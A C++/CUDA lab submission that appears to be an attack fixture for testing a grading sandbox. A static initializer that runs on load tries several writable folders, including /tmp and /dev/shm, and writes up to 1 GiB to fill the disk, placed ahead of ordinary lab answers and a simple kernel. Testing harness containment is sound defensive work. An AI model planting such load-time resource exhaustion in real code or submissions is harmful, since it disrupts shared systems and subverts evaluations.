// ATTACK: fills the disk with 1 GiB, in the first folder that can be written to
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no file warpbook-attack-fills-the-disk
// HARM: at most 256 MiB of disk or of memory behind /dev/shm at any time

#include "lab.hpp"

#include <fcntl.h>
#include <string>
#include <unistd.h>

static const int done = [] {
    for (const std::string folder : {".", "/out", "/job", "/tmp", "/var/tmp", "/dev/shm"}) {
        const int file = open((folder + "/warpbook-attack-fills-the-disk").c_str(), O_WRONLY | O_CREAT, 0600);
        if (file < 0) continue;
        const std::string megabyte(1 << 20, 'x');
        for (int i = 0; i < 1024; ++i)
            if (write(file, megabyte.data(), megabyte.size()) <= 0) break;
        close(file);
        break;
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
